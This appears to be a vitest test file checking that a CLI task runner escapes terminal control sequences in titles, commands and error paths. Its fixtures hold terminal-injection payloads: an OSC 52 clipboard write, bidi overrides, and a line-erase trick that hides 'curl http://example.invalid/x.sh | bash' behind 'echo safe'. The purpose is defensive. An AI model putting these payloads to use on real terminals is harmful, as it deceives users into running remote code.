import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CLI, workspaces } from '../helpers/cli.ts';
import { startTestNats } from '../helpers/nats.ts';

let server: Awaited<ReturnType<typeof startTestNats>>;
const ws = workspaces();
beforeAll(async () => {
  server = await startTestNats();
});
afterAll(async () => {
  await server?.stop();
  await ws.cleanup();
});

const ESC = '\u001b';
/** A title that writes the clipboard (OSC 52) and reverses what follows it (RLO). */
const TITLE = `Set up ${ESC}]52;c;Y3VybCB4fGJhc2g=\u0007the \u202eproject`;
/** A command that erases its own line and returns to its start: `curl … | bash` hides behind "echo safe". */
const COMMAND = `echo safe${ESC}[2K\rcurl http://example.invalid/x.sh | bash \u009b2J`;

/** What a terminal would obey in raw output: ESC, BEL, CR, DEL, C1 (UTF-8 C2 80-9F), bidi controls. */
function controls(bytes: Uint8Array): string[] {
  const found: string[] = [];
  for (let i = 0; i < bytes.length; i++) {
    const [b, n, m] = [bytes[i]!, bytes[i + 1] ?? 0, bytes[i + 2] ?? 0];
    if (b === 0x1b || b === 0x07 || b === 0x0d || b === 0x7f) found.push(`0x${b.toString(16)} at ${i}`);
    if (b === 0xc2 && n >= 0x80 && n <= 0x9f) found.push(`C1 0x${n.toString(16)} at ${i}`);
    if (b === 0xe2 && ((n === 0x80 && m >= 0xaa && m <= 0xae) || (n === 0x81 && m >= 0xa6 && m <= 0xa9)))
      found.push(`bidi at ${i}`);
  }
  return found;
}

const cli = (args: string[], cwd: string) =>
  execa(process.execPath, [CLI, ...args], {
    cwd,
    env: { NATS_URL: server.url, OPENAI_API_KEY: '', OPENAI_BASE_URL: '' },
    encoding: 'buffer',
    reject: false,
    timeout: 120_000,
  });
const text = (bytes: Uint8Array) => Buffer.from(bytes).toString('utf8');

describe('terminal output is inert', () => {
  it('run --dry prints a planned command and a title with their escape sequences shown, not obeyed', async () => {
    const w = await ws.make(`- [ ] 1. ${TITLE}\n  \`\`\`bash\n  ${COMMAND}\n  \`\`\`\n`);
    const result = await cli(['run', 'tasks.md', '--dry', '--llm', 'offline'], w.dir);
    expect(result.exitCode, text(result.stderr)).toBe(0);
    expect(controls(result.stdout)).toEqual([]);
    expect(controls(result.stderr)).toEqual([]);
    const shown = text(result.stdout);
    expect(shown).toContain('echo safe\\x1b[2K\\x0dcurl http://example.invalid/x.sh | bash \\x9b2J');
    expect(shown).toContain('Set up \\x1b]52;c;Y3VybCB4fGJhc2g=\\x07the \\u202eproject');
  });

  it('prints progress lines and a failed command escaped; --json stays JSON with nothing raw in it', async () => {
    // A command that fails, hiding "all good" over its own text: the failure line quotes it.
    const w = await ws.make(`- [ ] 1. ${TITLE}\n  \`\`\`bash\n  exit 3 # ${ESC}[2K\rall good\n  \`\`\`\n`);
    const plain = await cli(['run', 'tasks.md', '--llm', 'offline'], w.dir);
    expect(plain.exitCode, text(plain.stderr)).toBe(1);
    expect(controls(plain.stdout)).toEqual([]);
    expect(controls(plain.stderr)).toEqual([]);
    expect(text(plain.stdout)).toContain('Set up \\x1b]52;c;Y3VybCB4fGJhc2g=\\x07the \\u202eproject');
    expect(text(plain.stdout)).toContain('exit 3 # \\x1b[2K\\x0dall good');
    const json = await cli(['run', 'tasks.md', '--llm', 'offline', '--json', '--force'], w.dir);
    expect(controls(json.stdout)).toEqual([]);
    const events = text(json.stdout)
      .split('\n')
      .filter((l) => l.startsWith('{'))
      .map((l) => JSON.parse(l) as { type: string; data: { task?: { title: string } } });
    expect(events.find((e) => e.type === 'TaskSubmitted')?.data.task?.title).toBe(TITLE);
  });

  it('prints an error message naming a hostile path escaped', async () => {
    const w = await ws.make('- [ ] 1. Nothing\n');
    const name = `missing${ESC}]52;c;QUJD\u0007${ESC}[2K\r.md`;
    const result = await cli(['run', name], w.dir);
    expect(result.exitCode).toBe(2);
    expect(controls(result.stderr)).toEqual([]);
    expect(text(result.stderr)).toContain('missing\\x1b]52;c;QUJD\\x07\\x1b[2K\\x0d.md');
  });
});
